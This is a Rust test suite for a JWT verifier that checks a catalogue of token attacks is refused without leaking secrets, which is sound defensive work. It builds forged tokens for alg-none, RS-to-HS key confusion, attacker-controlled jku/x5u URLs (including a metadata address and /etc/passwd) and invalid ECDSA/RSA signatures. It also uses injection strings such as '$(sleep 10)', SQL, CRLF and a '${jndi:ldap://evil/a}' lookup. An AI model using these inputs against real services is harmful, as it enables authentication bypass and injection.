//! The attack catalogue (`shared/reference/attack-catalogue.md`), class by class, each case
//! asserting the exact outcome and that nothing it should not reaches the answer or the
//! decision record (what the log line is made of).

use aws_lc_rs::hmac;
use aws_lc_rs::signature::{self, EcdsaKeyPair, ParsedPublicKey};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use token_verifier::Algorithm;
use token_verifier::Failure;
use token_verifier::Outcome;

use crate::support::*;

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn payload() -> Vec<u8> {
    claims(json!({})).to_string().into_bytes()
}

/// Decides `token` with the test keys (RS256 and ES256 allowed) and checks the outcome
/// is `code`, never an Allow, and that neither the token nor its signature leaks.
async fn expect(token: &str, code: &str) -> Decided {
    expect_with(&[], token, code).await
}

async fn expect_with(vars: &[(&str, &str)], token: &str, code: &str) -> Decided {
    let mut all = vec![("ALLOWED_ALGORITHMS", "RS256,ES256")];
    all.extend_from_slice(vars);
    let authorizer = fixed_authorizer(&[&rsa_a(), &ec_p256()], &all);
    let decided = decide(&authorizer, rest_token(&format!("Bearer {token}"))).await;
    assert_eq!(decided.reason(), code, "{:?}", decided.record.refusal);
    assert_ne!(decided.record.outcome, Outcome::Allow);
    assert_clean(&decided, token);
    decided
}

fn assert_clean(decided: &Decided, token: &str) {
    let text = format!("{:?} {:?}", decided.record, decided.answer);
    if token.len() >= 16 {
        assert!(!text.contains(token), "the token leaked");
    }
    if let Some((_, sig)) = token.rsplit_once('.').filter(|(_, sig)| sig.len() >= 16) {
        assert!(!text.contains(sig), "the signature leaked");
    }
}

fn rs256(header: &Value, payload: &[u8]) -> String {
    rsa_a()
        .sign_parts(Algorithm::RS256, header.to_string().as_bytes(), payload)
        .unwrap()
}

fn with_signature(token: &str, signature: &[u8]) -> String {
    let (input, _) = token.rsplit_once('.').unwrap();
    format!("{input}.{}", b64(signature))
}

fn signature_of(token: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD
        .decode(token.rsplit_once('.').unwrap().1)
        .unwrap()
}

// ------------------------------------------------------------------ A. framing

#[tokio::test]
async fn framing_segments_empty_parts_and_serializations() {
    let good = rsa_a().mint(&claims(json!({}))).unwrap();
    let parts: Vec<&str> = good.split('.').collect();
    let (h, p, s) = (parts[0], parts[1], parts[2]);
    for bad in [
        h.to_owned(),
        format!("{h}.{p}"),
        format!("{h}.{p}.{s}."),
        format!("{h}.{p}.{s}.{s}"),
        format!("{h}.{p}.{s}.{s}.{s}.{s}"),
        format!(".{p}.{s}"),
        format!("{h}..{s}"),
        format!("{h}.{p}."),
        "..".to_owned(),
        format!("{h}.x.{p}.{s}.y.z"),
    ] {
        let decided = expect_any(&bad).await;
        assert!(
            ["malformed_token", "encrypted_token", "opaque_token"].contains(&decided.reason()),
            "{bad}"
        );
    }
    // JSON serializations: refused as a second credential (the comma) or as malformed.
    let general =
        json!({"payload": p, "signatures": [{"protected": h, "signature": s}]}).to_string();
    let flattened = json!({"payload": p, "protected": h, "signature": s}).to_string();
    for serialization in [general, flattened, format!("{{\"payload\":\"{p}\"}}")] {
        let decided = expect_any(&serialization).await;
        assert!(
            ["missing_token", "malformed_token"].contains(&decided.reason()),
            "{serialization}"
        );
    }
}

/// Like [`expect`] without a fixed code.
async fn expect_any(token: &str) -> Decided {
    let authorizer = fixed_authorizer(
        &[&rsa_a(), &ec_p256()],
        &[("ALLOWED_ALGORITHMS", "RS256,ES256")],
    );
    let decided = decide(&authorizer, rest_token(&format!("Bearer {token}"))).await;
    assert_ne!(decided.record.outcome, Outcome::Allow, "{token}");
    assert_clean(&decided, token);
    decided
}

#[tokio::test]
async fn framing_padding_alphabets_canonical_form_and_whitespace() {
    let good = rsa_a().mint(&claims(json!({}))).unwrap();
    let parts: Vec<&str> = good.split('.').collect();
    let (h, p, s) = (parts[0], parts[1], parts[2]);
    let sig = signature_of(&good);
    let standard = STANDARD.encode(&sig);
    // Framing and alphabet faults are a malformed token; whitespace or a control
    // character anywhere in the credential is refused before decoding, as no credential.
    for (bad, reason) in [
        (format!("{h}=.{p}.{s}"), "malformed_token"),
        (format!("{h}.{p}==.{s}"), "malformed_token"),
        (format!("{h}.{p}.{standard}"), "malformed_token"),
        (
            format!("{h}.{p}.{}", s.replace('-', "+").replace('_', "/")),
            "malformed_token",
        ),
        (format!("{h}.{p}.{s}%"), "malformed_token"),
        (format!("{h}.{p} .{s}"), "missing_token"),
        (format!("{h}.{p}.{s}\n"), "missing_token"),
        (format!("{h}.{p}.{s}\r\n"), "missing_token"),
        (format!("{h}.{p}\n.{s}"), "missing_token"),
        (format!("{h}\t.{p}.{s}"), "missing_token"),
    ] {
        let decided = expect_any(&bad).await;
        assert_eq!(decided.reason(), reason, "{bad:?}");
        assert_eq!(decided.answer, Err(Failure::Unauthorized), "{bad:?}");
    }
    // Spaces and tabs around the credential are HTTP's optional whitespace: stripped, as
    // every HTTP parser strips them, and the token itself is unchanged.
    let authorizer = fixed_authorizer(&[&rsa_a()], &[]);
    let padded = decide(&authorizer, rest_token(&format!("Bearer \t{good} \t"))).await;
    assert_eq!(padded.reason(), "ok");
    // Non-canonical base64: same bytes, different trailing bits of the last character.
    let last = s.chars().last().unwrap();
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let index = alphabet.find(last).unwrap();
    for variant in 1..4 {
        let twin = alphabet
            .chars()
            .nth((index & !3) | ((index + variant) & 3))
            .unwrap();
        if twin == last {
            continue;
        }
        let mutated = format!("{h}.{p}.{}{twin}", &s[..s.len() - 1]);
        expect(&mutated, "malformed_token").await;
    }
}

#[tokio::test]
async fn framing_jwe_and_json_that_is_not_an_object() {
    let jwe = format!(
        "{}.{}.{}.{}.{}",
        b64(br#"{"alg":"RSA-OAEP","enc":"A256GCM","zip":"DEF"}"#),
        b64(b"k"),
        b64(b"iv"),
        b64(b"ct"),
        b64(b"tag")
    );
    expect(&jwe, "encrypted_token").await;
    for body in ["[]", "\"s\"", "null", "123", "{", "{\"a\":1}x"] {
        let token = rsa_a()
            .sign_parts(
                Algorithm::RS256,
                br#"{"alg":"RS256","kid":"rsa-a"}"#,
                body.as_bytes(),
            )
            .unwrap();
        expect(&token, "malformed_token").await;
    }
    let bad_utf8 = rsa_a()
        .sign_parts(
            Algorithm::RS256,
            br#"{"alg":"RS256","kid":"rsa-a"}"#,
            b"{\"sub\":\"\xC0\xAF\"}",
        )
        .unwrap();
    expect(&bad_utf8, "malformed_token").await;
}

// ------------------------------------------------------------------ B. header and alg

#[tokio::test]
async fn alg_none_missing_unknown_and_outside_the_allow_list() {
    let body = payload();
    for alg in ["none", "None", "NONE", "nOnE"] {
        let header = json!({"alg": alg, "kid": "rsa-a"});
        let garbage = format!(
            "{}.{}.{}",
            b64(header.to_string().as_bytes()),
            b64(&body),
            b64(b"garbage")
        );
        expect(&garbage, "algorithm_not_allowed").await;
        expect(&rs256(&header, &body), "algorithm_not_allowed").await;
    }
    for alg in [
        json!(123),
        json!(null),
        json!(["RS256"]),
        json!("RS257"),
        json!("RS256 "),
        json!(""),
        json!("rs256"),
    ] {
        expect(
            &rs256(&json!({"alg": alg, "kid": "rsa-a"}), &body),
            "algorithm_not_allowed",
        )
        .await;
    }
    expect(
        &rs256(&json!({"kid": "rsa-a"}), &body),
        "algorithm_not_allowed",
    )
    .await;
    // Correctly signed with algorithms the configuration does not allow.
    let rsa = rsa_a();
    for alg in [
        Algorithm::RS384,
        Algorithm::RS512,
        Algorithm::PS256,
        Algorithm::PS512,
    ] {
        let token = rsa
            .sign_parts(
                alg,
                json!({"alg": alg.name(), "kid": "rsa-a"})
                    .to_string()
                    .as_bytes(),
                &body,
            )
            .unwrap();
        expect(&token, "algorithm_not_allowed").await;
    }
    let ed = ed25519();
    let token = ed
        .sign_parts(
            Algorithm::EdDSA,
            br#"{"alg":"EdDSA","kid":"ed25519"}"#,
            &body,
        )
        .unwrap();
    expect(&token, "algorithm_not_allowed").await;
}

/// The DER `RSAPublicKey` (PKCS#1) of a JWK.
fn pkcs1_der(jwk: &Value) -> Vec<u8> {
    fn tlv(tag: u8, content: &[u8]) -> Vec<u8> {
        let mut out = vec![tag];
        let len = content.len();
        if len < 128 {
            out.push(u8::try_from(len).unwrap());
        } else {
            let bytes: Vec<u8> = len
                .to_be_bytes()
                .into_iter()
                .skip_while(|b| *b == 0)
                .collect();
            out.push(0x80 | u8::try_from(bytes.len()).unwrap());
            out.extend(bytes);
        }
        out.extend_from_slice(content);
        out
    }
    let int = |field: &str| {
        let mut bytes = URL_SAFE_NO_PAD
            .decode(jwk[field].as_str().unwrap())
            .unwrap();
        if bytes[0] & 0x80 != 0 {
            bytes.insert(0, 0);
        }
        tlv(0x02, &bytes)
    };
    tlv(0x30, &[int("n"), int("e")].concat())
}

fn pem(label: &str, der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    format!(
        "-----BEGIN {label}-----\n{}\n-----END {label}-----\n",
        lines.join("\n")
    )
}

#[tokio::test]
async fn rs_to_hs_key_confusion_with_the_public_key_in_every_encoding() {
    let key = rsa_a();
    let jwk = key.public_jwk();
    let pkcs1 = pkcs1_der(&jwk);
    let parsed = ParsedPublicKey::new(&signature::RSA_PKCS1_2048_8192_SHA256, &pkcs1).unwrap();
    let spki = aws_lc_rs::encoding::AsDer::<aws_lc_rs::encoding::PublicKeyX509Der>::as_der(&parsed)
        .unwrap();
    let spki = spki.as_ref().to_vec();
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("SPKI PEM", pem("PUBLIC KEY", &spki).into_bytes()),
        ("PKCS#1 PEM", pem("RSA PUBLIC KEY", &pkcs1).into_bytes()),
        ("SPKI DER", spki.clone()),
        ("PKCS#1 DER", pkcs1.clone()),
        ("JWK JSON", jwk.to_string().into_bytes()),
        (
            "PEM with leading whitespace",
            format!("  \n{}", pem("PUBLIC KEY", &spki)).into_bytes(),
        ),
    ];
    let body = b64(&payload());
    for (alg, hmac_alg) in [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
    ] {
        let input = format!(
            "{}.{body}",
            b64(json!({"alg": alg, "kid": "rsa-a", "typ": "JWT"})
                .to_string()
                .as_bytes())
        );
        for (form, secret) in &secrets {
            let mac = hmac::sign(&hmac::Key::new(hmac_alg, secret), input.as_bytes());
            let token = format!("{input}.{}", b64(mac.as_ref()));
            let decided = expect(&token, "algorithm_not_allowed").await;
            assert!(
                decided.record.refusal.unwrap().detail.contains("symmetric"),
                "{alg} {form}"
            );
        }
    }
}

#[tokio::test]
async fn embedded_keys_and_key_urls_are_never_used_or_fetched() {
    let attacker = JwksServer::with_keys(&[&rsa_b()]).await;
    let evil = rsa_b();
    let body = payload();
    let headers = [
        json!({"alg": "RS256", "kid": "rsa-a", "jwk": evil.public_jwk()}),
        json!({"alg": "RS256", "kid": "rsa-a", "jku": attacker.url("/jwks")}),
        json!({"alg": "RS256", "kid": "rsa-a", "x5u": attacker.url("/cert.pem")}),
        json!({"alg": "RS256", "kid": "rsa-a", "x5c": [STANDARD.encode(b"self-signed certificate")]}),
        json!({"alg": "RS256", "kid": "rsa-a", "jku": "http://169.254.169.254/latest/meta-data/", "x5u": "file:///etc/passwd"}),
    ];
    for header in headers {
        // Signed by the attacker's key under the real kid: the embedded key is ignored.
        let token = evil
            .sign_parts(Algorithm::RS256, header.to_string().as_bytes(), &body)
            .unwrap();
        expect(&token, "invalid_signature").await;
        // Under the attacker's kid: unknown, and no fetch anywhere but the configured keys.
        let mut header = header;
        header["kid"] = json!("rsa-b");
        let token = evil
            .sign_parts(Algorithm::RS256, header.to_string().as_bytes(), &body)
            .unwrap();
        expect(&token, "unknown_kid").await;
    }
    assert_eq!(
        attacker.total_hits(),
        0,
        "a URL taken from a token was requested"
    );
}

#[tokio::test]
async fn crit_b64_and_nested_tokens() {
    let body = payload();
    for header in [
        json!({"alg": "RS256", "kid": "rsa-a", "crit": ["exp"], "exp": 1}),
        json!({"alg": "RS256", "kid": "rsa-a", "crit": ["b64"], "b64": false}),
        json!({"alg": "RS256", "kid": "rsa-a", "crit": ["foo"], "foo": "bar"}),
        json!({"alg": "RS256", "kid": "rsa-a", "crit": []}),
        json!({"alg": "RS256", "kid": "rsa-a", "crit": "x"}),
        json!({"alg": "RS256", "kid": "rsa-a", "crit": [null]}),
        json!({"alg": "RS256", "kid": "rsa-a", "b64": false}),
        json!({"alg": "RS256", "kid": "rsa-a", "cty": "JWT"}),
    ] {
        expect(&rs256(&header, &body), "unsupported_header").await;
    }
    let inner = rsa_a().mint(&claims(json!({}))).unwrap();
    let nested = rs256(
        &json!({"alg": "RS256", "kid": "rsa-a", "cty": "JWT"}),
        inner.as_bytes(),
    );
    expect(&nested, "unsupported_header").await;
}

#[tokio::test]
async fn kid_injection_is_an_exact_lookup_and_logged_safely() {
    let body = payload();
    let huge = "k".repeat(8_000);
    for kid in [
        "../../dev/null",
        "' OR 1=1--",
        "$(sleep 10)",
        "rsa-a\r\nX-Injected: 1",
        "rsa-a\u{0}",
        "rsa\u{2010}a",
        "",
        huge.as_str(),
        "RSA-A",
        " rsa-a",
    ] {
        let decided = expect(
            &rs256(&json!({"alg": "RS256", "kid": kid}), &body),
            "unknown_kid",
        )
        .await;
        let logged = decided.record.facts.kid.unwrap();
        assert!(
            logged.chars().count() <= 65 && !logged.chars().any(char::is_control),
            "{logged:?}"
        );
    }
    for kid in [
        json!(1),
        json!(null),
        json!({}),
        json!(["rsa-a"]),
        json!(true),
    ] {
        expect(
            &rs256(&json!({"alg": "RS256", "kid": kid}), &body),
            "malformed_token",
        )
        .await;
    }
    // No kid: one RS256 key fits, so it is accepted (and refused once two do; see refusals.rs).
    let authorizer = fixed_authorizer(&[&rsa_a()], &[]);
    let decided = decide(
        &authorizer,
        rest_token(&format!(
            "Bearer {}",
            rs256(&json!({"alg": "RS256"}), &body)
        )),
    )
    .await;
    assert_eq!(decided.reason(), "ok");
}

// ------------------------------------------------------------------ C. signatures

const P256_N: [u8; 32] = [
    0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
    0xBC, 0xE6, 0xFA, 0xAD, 0xA7, 0x17, 0x9E, 0x84, 0xF3, 0xB9, 0xCA, 0xC2, 0xFC, 0x63, 0x25, 0x51,
];

/// `a - b` for equal-length big-endian numbers with `a >= b`.
fn sub_be(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut out = vec![0; a.len()];
    let mut borrow = 0i16;
    for i in (0..a.len()).rev() {
        let mut d = i16::from(a[i]) - i16::from(b[i]) - borrow;
        borrow = i16::from(d < 0);
        if d < 0 {
            d += 256;
        }
        out[i] = u8::try_from(d).unwrap();
    }
    out
}

#[tokio::test]
async fn ecdsa_psychic_signatures_range_and_encoding() {
    let key = ec_p256();
    let good = key.mint(&claims(json!({}))).unwrap();
    let sig = signature_of(&good);
    let (r, s) = sig.split_at(32);
    let zero = [0u8; 32];
    let one = {
        let mut v = [0u8; 32];
        v[31] = 1;
        v
    };
    let n_minus_1 = sub_be(&P256_N, &one);
    let cases: Vec<Vec<u8>> = vec![
        [zero, zero].concat(),
        [&zero[..], s].concat(),
        [r, &zero[..]].concat(),
        [&P256_N[..], s].concat(),
        [r, &P256_N[..]].concat(),
        [&P256_N[..], &P256_N[..]].concat(),
        [&n_minus_1[..], &n_minus_1[..]].concat(),
        [&one[..], &one[..]].concat(),
        [&[0xFF; 32][..], s].concat(),
        sig[..63].to_vec(),
        [&sig[..], &[0]].concat(),
        [&sig[..], &sig[..]].concat(),
        [&[0], &sig[..]].concat(),
    ];
    for bad in cases {
        expect(&with_signature(&good, &bad), "invalid_signature").await;
    }
    // The DER form of a genuine signature is not the JOSE form.
    let pem_text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/keys/ec-p256.pem"
    ))
    .unwrap();
    let der_key: String = pem_text
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();
    let pair = EcdsaKeyPair::from_pkcs8(
        &signature::ECDSA_P256_SHA256_ASN1_SIGNING,
        &STANDARD.decode(der_key).unwrap(),
    )
    .unwrap();
    let input = good.rsplit_once('.').unwrap().0;
    let der_sig = pair
        .sign(&aws_lc_rs::rand::SystemRandom::new(), input.as_bytes())
        .unwrap();
    expect(
        &with_signature(&good, der_sig.as_ref()),
        "invalid_signature",
    )
    .await;
    // High-S (n - s) is mathematically valid ECDSA and verifies: signatures are never identities.
    let high_s = [r, &sub_be(&P256_N, s)[..]].concat();
    let authorizer = fixed_authorizer(&[&key], &[("ALLOWED_ALGORITHMS", "ES256")]);
    let decided = decide(
        &authorizer,
        rest_token(&format!("Bearer {}", with_signature(&good, &high_s))),
    )
    .await;
    assert_eq!(decided.reason(), "ok");
}

#[tokio::test]
async fn rsa_signature_malformations() {
    let key = rsa_a();
    let good = key.mint(&claims(json!({}))).unwrap();
    let sig = signature_of(&good);
    let n = URL_SAFE_NO_PAD
        .decode(key.public_jwk()["n"].as_str().unwrap())
        .unwrap();
    let mut one = vec![0u8; 256];
    one[255] = 1;
    let rs384 = key
        .signature(
            Algorithm::RS384,
            good.rsplit_once('.').unwrap().0.as_bytes(),
        )
        .unwrap();
    let ps256 = key
        .signature(
            Algorithm::PS256,
            good.rsplit_once('.').unwrap().0.as_bytes(),
        )
        .unwrap();
    let cases: Vec<Vec<u8>> = vec![
        vec![0; 256],
        one.clone(),
        sub_be(&n, &one),
        n.clone(),
        vec![0xFF; 256],
        [&[0], &sig[..]].concat(),
        [&sig[..], &[0]].concat(),
        sig[..255].to_vec(),
        sig[1..].to_vec(),
        vec![1],
        rs384,
        ps256,
    ];
    for bad in cases {
        expect(&with_signature(&good, &bad), "invalid_signature").await;
    }
}

#[tokio::test]
async fn every_single_character_change_is_refused() {
    let good = rsa_a().mint(&claims(json!({}))).unwrap();
    let authorizer = fixed_authorizer(&[&rsa_a()], &[]);
    assert_eq!(
        decide(&authorizer, rest_token(&format!("Bearer {good}")))
            .await
            .reason(),
        "ok"
    );
    let bytes = good.as_bytes();
    let mut refused = 0;
    for i in 0..bytes.len() {
        for replacement in [b'A', b'_', b'.'] {
            if bytes[i] == replacement {
                continue;
            }
            let mut mutated = bytes.to_vec();
            mutated[i] = replacement;
            let mutated = String::from_utf8(mutated).unwrap();
            let decided = decide(&authorizer, rest_token(&format!("Bearer {mutated}"))).await;
            assert_ne!(
                decided.record.outcome,
                Outcome::Allow,
                "position {i} -> {}",
                replacement as char
            );
            refused += 1;
        }
    }
    assert!(refused > 3 * 500);
}

// ------------------------------------------------------------------ E. claims

#[tokio::test]
async fn duplicate_claim_names_in_a_validly_signed_token() {
    let now = unix_now();
    let header = json!({"alg": "RS256", "kid": "rsa-a"});
    let base = format!(
        r#""iss":"{ISSUER}","aud":"{AUDIENCE}","iat":{},"exp":{}"#,
        now - 10,
        now + 600
    );
    for body in [
        format!(r#"{{{base},"sub":"alice","sub":"admin"}}"#),
        format!(r#"{{"exp":1,{base},"sub":"a"}}"#),
        format!(r#"{{{base},"sub":"a","scope":"r","scope":"admin"}}"#),
        format!(r#"{{{base},"sub":"a","meta":{{"role":"user","role":"admin"}}}}"#),
    ] {
        expect(&rs256(&header, body.as_bytes()), "malformed_token").await;
    }
}

#[tokio::test]
async fn hostile_claim_values_pass_as_inert_strings_within_the_bound() {
    let token = rsa_a()
        .mint(&claims(json!({
            "name": "Robert'); DROP TABLE users;--\r\nX-Injected: 1",
            "html": "<script>alert(1)</script>", "jndi": "${jndi:ldap://evil/a}",
            "big": "x".repeat(100_000 / 10),
        })))
        .unwrap();
    let authorizer = fixed_authorizer(&[&rsa_a()], &[]);
    let decided = decide(&authorizer, rest_token(&format!("Bearer {token}"))).await;
    let answer = decided.allowed();
    assert_eq!(
        answer["context"]["name"],
        "Robert'); DROP TABLE users;--\r\nX-Injected: 1"
    );
    assert!(
        answer["context"].get("big").is_none(),
        "a 10 KB claim does not fit the 4 KiB context"
    );
    assert!(answer["context"].to_string().len() <= 4096);
    assert_eq!(decided.record.omitted, vec!["big"]);
}

// ------------------------------------------------------------------ F. resource abuse

#[tokio::test]
async fn oversized_deeply_nested_and_numerically_extreme_tokens() {
    let started = std::time::Instant::now();
    expect(&"a".repeat(1_000_000), "token_too_large").await;
    expect(&".".repeat(1_000_000), "token_too_large").await;
    expect(
        &format!(
            "{}.{}.{}",
            "e".repeat(400_000),
            "e".repeat(400_000),
            "e".repeat(400_000)
        ),
        "token_too_large",
    )
    .await;
    assert!(started.elapsed() < std::time::Duration::from_secs(2));

    let header = json!({"alg": "RS256", "kid": "rsa-a"});
    let deep = format!(
        r#"{{"sub":"a","x":{}1{}}}"#,
        "[".repeat(3_000),
        "]".repeat(3_000)
    );
    expect(&rs256(&header, deep.as_bytes()), "malformed_token").await;
    let objects = format!(
        r#"{{"sub":"a","x":{}1{}}}"#,
        r#"{"a":"#.repeat(1_000),
        "}".repeat(1_000)
    );
    expect(&rs256(&header, objects.as_bytes()), "malformed_token").await;

    let now = unix_now();
    let base = format!(
        r#""iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"a","iat":{}"#,
        now - 10
    );
    for (exp, code) in [
        ("1e400", "malformed_token"),
        ("-1e400", "malformed_token"),
        ("1e-400", "expired"),
        ("-0", "expired"),
        ("-9223372036854775809", "expired"),
        ("\"9999999999\"", "invalid_claim"),
        ("[9999999999]", "invalid_claim"),
        ("true", "invalid_claim"),
        ("null", "invalid_claim"),
    ] {
        let body = format!("{{{base},\"exp\":{exp}}}");
        expect(&rs256(&header, body.as_bytes()), code).await;
    }
    // Very large but finite numbers are far-future times, not overflows or panics.
    for exp in [
        "18446744073709551615",
        "18446744073709551616",
        "1.7976931348623157e308",
    ] {
        let body = format!("{{{base},\"exp\":{exp}}}");
        let authorizer = fixed_authorizer(&[&rsa_a()], &[]);
        let token = rs256(&header, body.as_bytes());
        assert_eq!(
            decide(&authorizer, rest_token(&format!("Bearer {token}")))
                .await
                .reason(),
            "ok",
            "{exp}"
        );
    }
    for nbf in ["1.7976931348623157e308", "18446744073709551616"] {
        let body = format!("{{{base},\"exp\":{},\"nbf\":{nbf}}}", now + 600);
        expect(&rs256(&header, body.as_bytes()), "not_yet_valid").await;
    }
}
